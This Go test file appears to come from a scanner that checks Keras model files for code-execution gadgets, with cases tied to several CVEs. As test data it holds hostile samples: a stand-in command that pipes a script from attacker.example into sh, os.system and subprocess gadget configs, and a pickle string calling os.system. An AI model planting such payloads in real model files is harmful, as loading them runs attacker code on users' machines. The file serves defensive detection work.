package keras

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/mlguard/mlguard/internal/finding"
	"github.com/mlguard/mlguard/internal/scan/modelfile"
)

// summary renders findings as sorted "severity rule" lines.
func summary(fs []finding.Finding) []string {
	out := []string{}
	for _, f := range fs {
		out = append(out, f.Severity.String()+" "+f.Rule)
	}
	slices.Sort(out)
	return out
}

func readFixture(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// scanFixture scans a fixture with the scanner its name calls for.
func scanFixture(t testing.TB, name string, opt modelfile.Options) *modelfile.Report {
	t.Helper()
	b := readFixture(t, name)
	ctx := context.Background()
	r := bytes.NewReader(b)
	var rep *modelfile.Report
	var err error
	switch filepath.Ext(name) {
	case ".h5":
		rep, err = ScanH5(ctx, r, int64(len(b)), opt)
	case ".keras":
		rep, err = ScanKerasZip(ctx, r, int64(len(b)), opt)
	default:
		rep, err = ScanConfigJSON(ctx, r, int64(len(b)), opt, "")
	}
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return rep
}

func TestFixtures(t *testing.T) {
	t.Parallel()
	tests := []struct {
		file   string
		format string
		arch   string
		want   []string
	}{
		// Benign: ordinary layers, initializers, optimizers, losses, metrics, keras_hub, TFOpLambda arithmetic.
		{file: "benign/v3_sequential.json", format: "keras-v3", arch: "Sequential (sequential)"},
		{file: "benign/v3_functional.json", format: "keras-v3", arch: "Functional (tagger)"},
		{file: "benign/v3_keras_hub_bert.json", format: "keras-v3", arch: "BertTextClassifier (bert_text_classifier)"},
		{file: "benign/keras2_functional.json", format: "keras-v3", arch: "Functional (model)"},
		{file: "benign/keras2_training_config.json", format: "keras-v3"},
		{file: "benign/keras2_functional.h5", format: "keras-h5", arch: "Functional (model)"},
		{file: "benign/sequential.keras", format: "keras-v3", arch: "Sequential (sequential)"},

		// CVE-2024-3660: Lambda bytecode calling os.system, in JSON, UTF-16 JSON and a .keras archive.
		{file: "malicious/v3_lambda_os_system.json", format: "keras-v3", want: []string{"critical keras/lambda-layer"}},
		{file: "malicious/v3_lambda_os_system_utf16.json", format: "keras-v3", want: []string{"critical keras/lambda-layer"}},
		{file: "malicious/lambda_os_system.keras", format: "keras-v3", want: []string{"critical keras/lambda-layer"}},
		{file: "malicious/v3_lambda_plain.json", format: "keras-v3", want: []string{"high keras/lambda-layer"}},
		// CVE-2025-9905: a Lambda in a legacy .h5, plus a custom loss in training_config.
		{file: "malicious/keras2_lambda.h5", format: "keras-h5", arch: "Sequential (sequential)",
			want: []string{"critical keras/lambda-layer", "low keras/custom-object"}},
		{file: "malicious/keras2_lambda_named.json", format: "keras-v3", want: []string{"high keras/lambda-layer"}},
		// CVE-2025-1550: subprocess.run as a layer class.
		{file: "malicious/v3_cve_2025_1550_subprocess.json", format: "keras-v3", want: []string{"critical keras/custom-object"}},
		// CVE-2025-9906: set_global_attribute("safe_mode_saving"), then load_model(safe_mode=False).
		{file: "malicious/v3_cve_2025_9906.json", format: "keras-v3", want: []string{
			"critical keras/unsafe-deserialization", "critical keras/unsafe-deserialization", "critical keras/unsafe-deserialization"}},
		{file: "malicious/v3_enable_unsafe_deserialization.json", format: "keras-v3", want: []string{
			"critical keras/lambda-layer", "critical keras/unsafe-deserialization"}},
		// CVE-2025-8747: keras.utils.get_file from a Lambda, and the URL it fetches.
		{file: "malicious/v3_cve_2025_8747_get_file.json", format: "keras-v3", want: []string{
			"critical keras/remote-fetch", "high keras/remote-fetch"}},
		// JFrog keras-custom: builtins.map(os.system, ["id"]).
		{file: "malicious/v3_builtin_with_os_system.json", format: "keras-v3", want: []string{
			"critical keras/custom-object", "high keras/lambda-layer"}},
		{file: "malicious/v3_activation_os_system.json", format: "keras-v3", want: []string{
			"critical keras/custom-object", "critical keras/custom-object"}},
		{file: "malicious/v3_custom_object.json", format: "keras-v3", want: []string{
			"high keras/custom-object", "medium keras/custom-object"}},
		// CVE-2025-12058 vocabulary paths, TFSMLayer from a bucket.
		{file: "malicious/v3_external_files.json", format: "keras-v3", want: []string{
			"high keras/remote-fetch", "high keras/remote-fetch", "high keras/remote-fetch"}},
		{file: "malicious/v3_torch_module_wrapper.json", format: "keras-v3", want: []string{"medium keras/embedded-module"}},
		{file: "malicious/keras2_tf_ops.json", format: "keras-v3", want: []string{
			"critical keras/tf-op-lambda", "high keras/tf-op-lambda", "high keras/tf-op-lambda"}},
		{file: "malicious/truncated.json", format: "keras-v3", want: []string{"high scan/incomplete"}},
	}
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			t.Parallel()
			rep := scanFixture(t, tc.file, modelfile.Options{})
			if rep.Format != tc.format {
				t.Errorf("format %q, want %q", rep.Format, tc.format)
			}
			if tc.arch != "" && rep.Architecture != tc.arch {
				t.Errorf("architecture %q, want %q", rep.Architecture, tc.arch)
			}
			want := tc.want
			if want == nil {
				want = []string{}
			}
			if diff := cmp.Diff(want, summary(rep.Findings)); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
				for _, f := range rep.Findings {
					t.Logf("%s %s: %s [%s]", f.Severity, f.Rule, f.Message, f.Evidence)
				}
			}
			for _, f := range rep.Findings {
				if f.Message == "" || f.Help == "" || f.Path != "" {
					t.Errorf("malformed finding %+v", f)
				}
			}
		})
	}
}

func TestLambdaFindingExplainsItself(t *testing.T) {
	t.Parallel()
	rep := scanFixture(t, "malicious/v3_lambda_os_system.json", modelfile.Options{})
	f := rep.Findings[0]
	for _, s := range []string{`Lambda "lambda"`, "__import__", "system", "curl -s https://attacker.example/x.sh | sh"} {
		if !strings.Contains(f.Message+f.Evidence, s) {
			t.Errorf("finding does not mention %q: %s / %s", s, f.Message, f.Evidence)
		}
	}
	if f.Line != 1 || f.Offset <= 0 {
		t.Errorf("position line %d offset %d", f.Line, f.Offset)
	}
	b := readFixture(t, "malicious/v3_lambda_os_system.json")
	if !bytes.HasPrefix(b[f.Offset:], []byte(`{"module": "keras.layers", "class_name": "Lambda"`)) {
		t.Errorf("offset %d points at %.60q", f.Offset, b[f.Offset:])
	}

	h5 := scanFixture(t, "malicious/keras2_lambda.h5", modelfile.Options{})
	for _, f := range h5.Findings {
		if f.Member != "model_config" && f.Member != "training_config" {
			t.Errorf("member %q", f.Member)
		}
		if f.Offset != 0 || f.Line != 0 {
			t.Errorf("positions inside an attribute leaked: %+v", f)
		}
	}

	zip := scanFixture(t, "malicious/lambda_os_system.keras", modelfile.Options{})
	if zip.Findings[0].Member != "config.json" {
		t.Errorf("member %q", zip.Findings[0].Member)
	}
}

func TestBytecodeOfEveryPythonVersion(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob("testdata/bytecode/py*.b64")
	if err != nil || len(files) < 4 {
		t.Fatalf("bytecode fixtures: %v %v", files, err)
	}
	for _, p := range files {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		info, err := decodeFuncDump(string(b))
		if err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		if !info.Decoded {
			t.Errorf("%s: did not parse as a code object", p)
		}
		if info.Filename != "train.py" || info.Function != "<lambda>" {
			t.Errorf("%s: filename %q function %q", p, info.Filename, info.Function)
		}
		names, _ := info.assess()
		if !slices.Contains(names, "__import__") || !slices.Contains(names, "system") || !slices.Contains(names, "os") || !slices.Contains(info.Strings, "id > /tmp/pwned") {
			t.Errorf("%s: names %v strings %v", p, names, info.Strings)
		}
	}
}

func TestBytecodeFallsBackToStrings(t *testing.T) {
	t.Parallel()
	info := analyzeMarshal([]byte("\xe3garbage\x00os\x00system\x01curl x | sh"))
	if info.Decoded {
		t.Fatal("garbage parsed as a code object")
	}
	names, strs := info.assess()
	if !slices.Contains(names, "system") || len(strs) == 0 {
		t.Errorf("names %v strings %v", names, strs)
	}
	if _, err := decodeFuncDump("!!!"); err == nil {
		t.Error("decodeFuncDump accepted non-base64")
	}
}

// k3 is a Keras 3 serialized object.
func k3(module, class string, config string) string {
	return fmt.Sprintf(`{"module": %q, "class_name": %q, "config": %s, "registered_name": null}`, module, class, config)
}

func TestAnalyzeConfig(t *testing.T) {
	t.Parallel()
	seq := func(layers ...string) string {
		return fmt.Sprintf(`{"class_name": "Sequential", "config": {"name": "s", "layers": [%s]}}`, strings.Join(layers, ", "))
	}
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"not an object", `[1, 2, "three"]`, nil},
		{"empty object", `{}`, nil},
		{"NaN and Infinity are numbers", seq(`{"class_name": "Dense", "config": {"name": "d", "units": 2, "max": Infinity, "min": -Infinity, "x": NaN}}`), nil},
		{"activation strings", seq(`{"class_name": "Dense", "config": {"activation": "gelu"}}`, `{"class_name": "Activation", "config": {"activation": "softmax"}}`), nil},
		{"builtins relu is a Keras activation", seq(k3("keras.layers", "Dense", `{"activation": {"module": "builtins", "class_name": "function", "config": "relu", "registered_name": null}}`)), nil},
		{"keras function reference", seq(k3("keras.layers", "Dense", `{"activation": {"module": "keras.activations", "class_name": "function", "config": "gelu", "registered_name": null}}`)), nil},
		{"tf.keras 2.13 module paths", `{"module": "keras.src.engine.functional", "class_name": "Functional", "config": {"layers": [{"module": "keras.src.layers.core.tf_op_layer", "class_name": "TFOpLambda", "config": {"function": "math.reduce_mean"}, "registered_name": "TFOpLambda"}]}, "registered_name": "Functional"}`, nil},
		{"Custom> optimizer of tf.keras 2.11", `{"optimizer_config": {"class_name": "Custom>AdamW", "config": {}}}`, nil},
		{"tf operators", seq(`{"class_name": "TFOpLambda", "config": {"function": "__operators__.getitem"}}`, `{"class_name": "TFOpLambda", "config": {"function": "experimental.numpy.add"}}`), nil},
		{"ClassMethod of RaggedTensor", seq(`{"class_name": "ClassMethod", "config": {"cls_symbol": "RaggedTensor", "method_name": "from_row_lengths"}}`), nil},
		{"raw output_shape is data", seq(`{"class_name": "Lambda", "config": {"name": "l", "function": "my_fn", "function_type": "function", "module": "keras.backend", "output_shape": [null, 3], "output_shape_type": "raw"}}`),
			[]string{"medium keras/lambda-layer"}},
		{"serialized lambda as an activation", seq(k3("keras.layers", "Dense", `{"name": "d", "activation": {"class_name": "__lambda__", "config": {"value": ["4wEAAAAAAAAAAAAAAAEAAAADAAAA8wYAAACXAHwAUwCpAU6pAKkB2gF4cwEAAAAg+gh0cmFpbi5wefoIPGxhbWJkYT5yBAAAAAEAAABzBgAAAIAAmDGAAHIDAAAAcwAAAAA=", null, null]}}}`)),
			[]string{"high keras/lambda-layer"}},
		{"Keras 2 lambda output_shape", seq(`{"class_name": "Lambda", "config": {"name": "l", "function": "f", "function_type": "function", "module": "m", "output_shape": ["4wEAAAAAAAAAAAAAAAEAAAADAAAA8wYAAACXAHwAUwCpAU6pAKkB2gF4cwEAAAAg+gh0cmFpbi5wefoIPGxhbWJkYT5yBAAAAAEAAABzBgAAAIAAmDGAAHIDAAAAcwAAAAA=", null, null], "output_shape_type": "lambda", "output_shape_module": "os"}}`),
			[]string{"critical keras/lambda-layer", "high keras/lambda-layer"}},
		{"undecodable lambda", seq(`{"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "@@@", "defaults": null, "closure": null}}}}`),
			[]string{"high keras/lambda-layer"}},
		{"lambda with shell in defaults", seq(`{"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "AAAA", "defaults": ["curl http://x | sh"], "closure": null}}}}`),
			[]string{"critical keras/lambda-layer"}},
		{"unknown Keras 2 class", seq(`{"class_name": "TransformerBlock", "config": {"name": "t"}}`, `{"class_name": "TransformerBlock", "config": {"name": "t2"}}`),
			[]string{"low keras/custom-object"}},
		{"registered Keras 2 class", seq(`{"class_name": "MyPkg>Swish", "config": {}}`), []string{"low keras/custom-object"}},
		{"importlib", seq(k3("importlib", "import_module", `{}`)), []string{"critical keras/custom-object"}},
		{"runpy as a function", seq(k3("keras.layers", "Dense", `{"kernel_constraint": {"module": "runpy", "class_name": "function", "config": "run_path", "registered_name": null}}`)),
			[]string{"critical keras/custom-object"}},
		{"attribute chain through a harmless module", seq(k3("tempfile", "_os.system", `{}`)), []string{"critical keras/custom-object"}},
		{"__typespec__ module", seq(`{"class_name": "__typespec__", "spec_name": "system", "module": "os", "config": [], "registered_name": null}`),
			[]string{"critical keras/custom-object"}},
		{"gadget named in a string", seq(`{"class_name": "Dense", "config": {"name": "enable_unsafe_deserialization"}}`),
			[]string{"critical keras/unsafe-deserialization"}},
		{"url somewhere", seq(`{"class_name": "Dense", "config": {"name": "d", "notes": "https://example.com/x"}}`),
			[]string{"medium keras/remote-fetch"}},
		{"hub layer", seq(k3("tensorflow_hub.keras_layer", "KerasLayer", `{"name": "h", "handle": "https://tfhub.dev/google/imagenet/mobilenet_v2_100_224/feature_vector/5"}`)),
			[]string{"high keras/remote-fetch"}},
		{"relative vocabulary", seq(k3("keras.layers", "StringLookup", `{"name": "s", "vocabulary": "vocab.txt"}`)), []string{"medium keras/remote-fetch"}},
		{"tf op python", seq(`{"class_name": "TFOpLambda", "config": {"function": "py_function"}}`), []string{"critical keras/tf-op-lambda"}},
		{"tf op gfile", seq(`{"class_name": "TFOpLambda", "config": {"function": "tf.io.gfile.rmtree"}}`), []string{"high keras/tf-op-lambda"}},
		{"tf op not a name", seq(`{"class_name": "SlicingOpLambda", "config": {"function": "os.system('id')"}}`), []string{"medium keras/tf-op-lambda"}},
		{"tf op dunder", seq(`{"class_name": "TFOpLambda", "config": {"function": "__internal__.x"}}`), []string{"high keras/tf-op-lambda"}},
		{"tf op raw PyFunc", seq(`{"class_name": "TensorFlowOpLayer", "config": {"node_def": {"op": "PyFunc"}}}`), []string{"critical keras/tf-op-lambda"}},
		{"tf function by module", seq(k3("keras.layers", "Dense", `{"activation": {"module": "tensorflow.io", "class_name": "function", "config": "write_file", "registered_name": null}}`)),
			[]string{"high keras/tf-op-lambda"}},
		{"duplicate keys: the last wins", `{"class_name": "Lambda", "config": {}, "class_name": "Dense"}`, nil},
		{"duplicate keys: the last is the payload", `{"module": "keras.layers", "module": "os", "class_name": "system", "config": {}}`,
			[]string{"critical keras/custom-object"}},
		{"truncated", `{"class_name": "Sequential", "config": {`, []string{"high scan/incomplete"}},
		{"too deep", strings.Repeat("[", 1200) + strings.Repeat("]", 1200), []string{"high scan/incomplete"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got := AnalyzeConfig([]byte(tc.in), "m")
			want := tc.want
			if want == nil {
				want = []string{}
			}
			if diff := cmp.Diff(want, summary(got)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
				for _, f := range got {
					t.Logf("%s %s: %s [%s]", f.Severity, f.Rule, f.Message, f.Evidence)
				}
			}
			for _, f := range got {
				if f.Member != "m" {
					t.Errorf("member %q", f.Member)
				}
			}
		})
	}
}

func TestRepeatedFindingsAreCounted(t *testing.T) {
	t.Parallel()
	var layers []string
	for i := range 50 {
		layers = append(layers, fmt.Sprintf(`{"class_name": "MyBlock", "config": {"name": "b%d"}}`, i))
	}
	got := AnalyzeConfig([]byte(`{"class_name": "Sequential", "config": {"layers": [`+strings.Join(layers, ",")+`]}}`), "")
	if len(got) != 1 || !strings.Contains(got[0].Message, "(50 places in the config)") {
		t.Errorf("%+v", got)
	}
}

func TestTorchModuleWrapperIsScannedNested(t *testing.T) {
	t.Parallel()
	var gotName string
	var gotHead []byte
	opt := modelfile.Options{Nested: func(ctx context.Context, name string, r io.ReaderAt, size int64) []finding.Finding {
		gotName = name
		gotHead = make([]byte, 4)
		r.ReadAt(gotHead, 0)
		f := finding.New(finding.PickleDangerousGlobal, "pickle calls os.system")
		f.Member = name + "!archive/data.pkl"
		return []finding.Finding{f}
	}}
	b := readFixture(t, "malicious/v3_torch_module_wrapper.json")
	rep := AnalyzeConfigOpt(context.Background(), b, "config.json", opt)
	if gotName != "torch_module_wrapper/module" || string(gotHead) != "PK\x03\x04" {
		t.Errorf("nested scan of %q starting %q", gotName, gotHead)
	}
	want := []string{"critical pickle/dangerous-global", "medium keras/embedded-module"}
	if diff := cmp.Diff(want, summary(rep.Findings)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	for _, f := range rep.Findings {
		if f.Rule == finding.PickleDangerousGlobal && f.Member != "config.json!torch_module_wrapper/module!archive/data.pkl" {
			t.Errorf("member %q", f.Member)
		}
	}

	// Bytes written as text (a protocol 0 pickle) reach torch.load too.
	bytesForm := `{"class_name": "TorchModuleWrapper", "config": {"name": "t", "module": {"class_name": "__bytes__", "config": {"value": "cos\nsystem\n(S'id'\ntR."}}}}`
	gotHead = nil
	rep = AnalyzeConfigOpt(context.Background(), []byte(bytesForm), "", opt)
	if string(gotHead) != "cos\n" || len(rep.Findings) != 2 {
		t.Errorf("bytes form: head %q findings %v", gotHead, summary(rep.Findings))
	}

	bad := `{"class_name": "TorchModuleWrapper", "config": {"name": "t", "module": "@@not base64@@"}}`
	if got := summary(AnalyzeConfig([]byte(bad), "")); !slices.Equal(got, []string{"high scan/incomplete"}) {
		t.Errorf("bad base64: %v", got)
	}
}

func TestScanH5(t *testing.T) {
	t.Parallel()
	// The HDF5 reader's own fixtures: Keras 2 models written by h5py in the
	// default and the latest file format, weights-only files and plain data.
	for _, tc := range []struct {
		file, format string
	}{
		{"keras2.h5", FormatH5},
		{"keras2_latest.h5", FormatH5},
		{"weights_only.h5", FormatHDF5},
		{"dense.h5", FormatH5},
		{"types.h5", FormatHDF5},
		{"links.h5", FormatHDF5},
		{"fixed_strings.h5", FormatH5},
	} {
		b, err := os.ReadFile(filepath.Join("..", "hdf5", "testdata", tc.file))
		if err != nil {
			t.Fatal(err)
		}
		rep, err := ScanH5(context.Background(), bytes.NewReader(b), int64(len(b)), modelfile.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if rep.Format != tc.format || len(rep.Findings) != 0 {
			t.Errorf("%s: format %s, findings %v", tc.file, rep.Format, summary(rep.Findings))
			for _, f := range rep.Findings {
				t.Logf("%s: %s [%s]", f.Rule, f.Message, f.Evidence)
			}
		}
	}
	for name, b := range map[string][]byte{
		"not hdf5":  []byte("just some bytes, not a file format at all........................................"),
		"truncated": readFixture(t, "benign/keras2_functional.h5")[:600],
		"empty":     nil,
	} {
		rep, err := ScanH5(context.Background(), bytes.NewReader(b), int64(len(b)), modelfile.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if got := summary(rep.Findings); !slices.Equal(got, []string{"high scan/incomplete"}) {
			t.Errorf("%s: %v", name, got)
		}
	}
}

func TestScanKerasZip(t *testing.T) {
	t.Parallel()
	rep, err := ScanKerasZip(context.Background(), bytes.NewReader([]byte("not a zip")), 9, modelfile.Options{})
	if err == nil {
		t.Errorf("not a zip: %+v", rep)
	}
	// An archive without config.json.
	b := readFixture(t, "benign/sequential.keras")
	noConfig := bytes.ReplaceAll(b, []byte("config.json"), []byte("cONFIG.JSN_"))
	rep, err = ScanKerasZip(context.Background(), bytes.NewReader(noConfig), int64(len(noConfig)), modelfile.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := summary(rep.Findings); !slices.Contains(got, "high scan/incomplete") {
		t.Errorf("no config.json: %v", got)
	}
}

// TestScanKerasZipDuplicateConfig: Python's zipfile reads the last of two
// members with one name; mlguard reads both.
func TestScanKerasZipDuplicateConfig(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for i, name := range []string{"config.json", "metadata.json", "config.json"} {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		switch i {
		case 0:
			w.Write(readFixture(t, "benign/v3_sequential.json"))
		case 1:
			w.Write([]byte(`{"keras_version": "3.8.0"}`))
		case 2:
			w.Write(readFixture(t, "malicious/v3_cve_2025_1550_subprocess.json"))
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	rep, err := ScanKerasZip(context.Background(), bytes.NewReader(buf.Bytes()), int64(buf.Len()), modelfile.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := summary(rep.Findings); !slices.Equal(got, []string{"critical keras/custom-object"}) || rep.Architecture != "Sequential (sequential)" {
		t.Errorf("%v %q", got, rep.Architecture)
	}
}

func TestScanConfigJSON(t *testing.T) {
	t.Parallel()
	b := readFixture(t, "malicious/v3_lambda_os_system.json")
	// Size unknown: read to the end.
	rep, err := ScanConfigJSON(context.Background(), bytes.NewReader(b), -1, modelfile.Options{}, "config.json")
	if err != nil || rep.Format != FormatV3 || len(rep.Findings) != 1 || rep.Findings[0].Member != "config.json" {
		t.Errorf("%+v %v", rep, err)
	}
	rep, _ = ScanConfigJSON(context.Background(), bytes.NewReader(b), MaxConfig+1, modelfile.Options{}, "")
	if got := summary(rep.Findings); !slices.Equal(got, []string{"high scan/incomplete"}) {
		t.Errorf("too large: %v", got)
	}
	meta, _ := ScanMetadataJSON(context.Background(), strings.NewReader(`{"keras_version": "3.10.0", "date_saved": "2025-06-01@12:00:00"}`), -1, modelfile.Options{}, "metadata.json")
	if meta.Format != FormatV3 || len(meta.Findings) != 0 {
		t.Errorf("metadata: %+v", meta)
	}
	meta, _ = ScanMetadataJSON(context.Background(), strings.NewReader(`keras 3`), 7, modelfile.Options{}, "metadata.json")
	if len(meta.Findings) != 1 {
		t.Errorf("bad metadata: %+v", meta)
	}
	m, err := ReadMetadata([]byte(`{"keras_version": "3.10.0", "date_saved": "2025-06-01@12:00:00"}`))
	if err != nil || m.KerasVersion != "3.10.0" || m.DateSaved != "2025-06-01@12:00:00" {
		t.Errorf("%+v %v", m, err)
	}
}

func TestIsV3Archive(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		names []string
		want  bool
	}{
		{[]string{"metadata.json", "config.json", "model.weights.h5"}, true},
		{[]string{"config.json", "model.weights.npz"}, true},
		{[]string{"config.json"}, false},
		{[]string{"archive/data.pkl", "archive/version"}, false},
		{[]string{"sub/config.json", "sub/metadata.json"}, false},
	} {
		if got := IsV3Archive(tc.names); got != tc.want {
			t.Errorf("%v: %v", tc.names, got)
		}
	}
}

func TestCancelled(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var layers []string
	for range 3000 {
		layers = append(layers, `{"class_name": "Dense", "config": {"units": 1}}`)
	}
	rep := AnalyzeConfigOpt(ctx, []byte(`{"class_name": "Sequential", "config": {"layers": [`+strings.Join(layers, ",")+`]}}`), "", modelfile.Options{})
	if got := summary(rep.Findings); !slices.Equal(got, []string{"high scan/incomplete"}) {
		t.Errorf("%v", got)
	}
}
